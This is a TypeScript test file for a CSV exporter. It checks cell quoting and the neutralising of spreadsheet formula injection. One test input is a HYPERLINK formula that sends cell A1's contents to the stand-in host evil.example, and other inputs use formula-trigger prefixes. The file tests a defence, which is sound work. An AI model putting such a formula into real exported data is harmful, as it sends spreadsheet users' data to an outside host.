import { describe, expect, it } from 'vitest';
import { csvHeader, csvRows } from './csv.ts';

const row = (values: Record<string, unknown>) => csvRows([values], Object.keys(values), ',');

describe('CSV cells', () => {
  it('quotes a cell holding the separator, a quote or a line break (RFC 4180)', () => {
    expect(row({ a: 'x,y', b: 'say "hi"', c: 'two\nlines', d: null, e: 'plain' })).toBe(
      '"x,y","say ""hi""","two\nlines",,plain\r\n',
    );
    expect(csvRows([{ a: 'x;y', b: 'x,y' }], ['a', 'b'], ';')).toBe('"x;y";x,y\r\n');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Klick"")"`,
    ],
    ['+49 170 1234567', `"'+49 170 1234567"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1+1', `"'\n=1+1"`],
    ['\u0000=1+1', `"'\u0000=1+1"`],
  ])('writes the text %j so a spreadsheet shows it instead of running it', (text, cell) => {
    expect(row({ charge: text })).toBe(`${cell}\r\n`);
    expect(csvRows([{ charge: text }], ['charge'], ';')).toBe(`${cell}\r\n`);
  });

  it('leaves numbers as they are, also negative ones: a number column is data, not a formula', () => {
    expect(row({ delta: -5, amount: 12, ratio: -0.5, charge: '-5' })).toBe(`-5,12,-0.5,"'-5"\r\n`);
  });

  it('leaves text that only holds such a character later on as it is', () => {
    expect(row({ code: 'A-01-01', name: 'Müller = Meier', mail: 'a@b.de' })).toBe(
      'A-01-01,Müller = Meier,a@b.de\r\n',
    );
  });

  it('writes the header the same way, with a byte order mark for ;', () => {
    expect(csvHeader(['id', 'time'], ',')).toBe('id,time\r\n');
    expect(csvHeader(['id', 'time'], ';')).toBe('\uFEFFid;time\r\n');
  });
});
